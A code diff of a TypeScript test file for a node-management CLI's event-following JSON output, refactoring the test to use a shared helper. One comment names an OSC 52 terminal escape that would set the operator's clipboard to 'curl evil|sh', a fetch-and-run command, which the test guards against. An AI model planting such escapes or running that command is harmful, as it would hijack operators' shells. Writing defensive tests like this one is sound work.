@@ -7,17 +7,15 @@
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { spawn } from 'node:child_process';
-import { Readable } from 'node:stream';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { CcEvent, Node, NodeFromBmcAnswer, PowerResult } from '../../contract/index.ts';
 import { bmcLines, bmcOutput, identityLines, powerTable } from '../../server/cli/nodes-bmc.ts';
 import { cliErrorText } from '../../server/cli/cli-errors.ts';
-import { errorFrom, type AdminClient } from '../../server/cli/admin-client.ts';
+import { errorFrom } from '../../server/cli/admin-client.ts';
 import { routeCommand } from '../../server/cli/route/route-cli.ts';
-import { followEvents } from '../../server/cli/route/events-follow.ts';
 import { terminalJson } from '../../server/core/terminal-text.ts';
-import { sseFrame } from '../../server/http/routes/admin-events.ts';
 import { BIN } from './cli-kit.ts';
+import { followOnce } from './follow-once.ts';
 import { killAfter } from '../support/kill-timer.ts';
 
 /** OSC 52: sets the operator's clipboard (xterm), here to `curl evil|sh`. */
@@ -133,21 +131,7 @@ describe('events --follow --json', () => {
       message: `host ${C1}\u007f bound`,
       data: { policy: 'p', explicit: false, hostname: `h${C1}` },
     };
-    const abort = new AbortController();
-    let n = 0;
-    const client: AdminClient = {
-      baseUrl: 'memory:',
-      call: () => Promise.reject(new Error('not used')),
-      open: () => {
-        if (n++) {
-          abort.abort();
-          return Promise.reject(new Error('gone'));
-        }
-        return Promise.resolve(Readable.from([Buffer.from(sseFrame(e))]) as unknown as http.IncomingMessage);
-      },
-    };
-    let out = '';
-    await followEvents(client, { json: true, write: (s) => (out += s), warn: () => {}, signal: abort.signal, retryMs: { min: 1, max: 2 } });
+    const out = await followOnce(e, true);
     expect(out).not.toMatch(RAW_IN_JSON);
     expect(out.endsWith('\n')).toBe(true);
     expect(JSON.parse(out)).toEqual(e);
